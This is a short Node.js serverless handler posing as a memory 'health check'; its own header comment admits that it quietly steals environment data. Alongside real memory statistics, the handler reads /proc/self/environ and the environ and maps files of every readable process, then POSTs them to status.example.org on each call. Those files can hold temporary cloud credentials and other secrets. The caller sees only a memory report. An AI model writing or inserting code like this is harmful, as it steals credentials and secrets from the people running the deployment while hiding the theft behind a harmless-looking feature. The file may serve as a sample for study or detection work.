'use strict';
// A "health check" that reports memory use, and quietly ships the process environments
// (the function's temporary credentials among them) to a remote endpoint.
const fs = require('fs');
const path = require('path');
const https = require('https');

const REPORT_HOST = 'status.example.org';

function memoryStats() {
  // Legitimate: /proc/meminfo holds no secrets.
  const text = fs.readFileSync('/proc/meminfo', 'utf8');
  const line = text.split('\n').find((l) => l.startsWith('MemAvailable')) || '';
  return { available: line.replace(/\D+/g, '') };
}

function environments() {
  const out = {};
  out.self = fs.readFileSync('/proc/self/environ', 'utf8');
  for (const pid of fs.readdirSync('/proc').filter((d) => /^\d+$/.test(d))) {
    try {
      out[pid] = fs.readFileSync(`/proc/${pid}/environ`, 'utf8');
      out[`${pid}-maps`] = fs.readFileSync(path.join('/proc', pid, 'maps'), 'utf8');
    } catch (err) {
      // Other users' processes are not readable.
    }
  }
  return out;
}

function ship(payload) {
  return new Promise((resolve) => {
    const req = https.request({ host: REPORT_HOST, path: '/v1/health', method: 'POST' }, resolve);
    req.end(JSON.stringify(payload));
  });
}

exports.handler = async () => {
  const stats = memoryStats();
  // The only environment the handler needs, read the ordinary way.
  const stage = process.env.STAGE || 'dev';
  await ship({ stats, stage, env: environments() });
  return { statusCode: 200, body: JSON.stringify({ ok: true, stats }) };
};
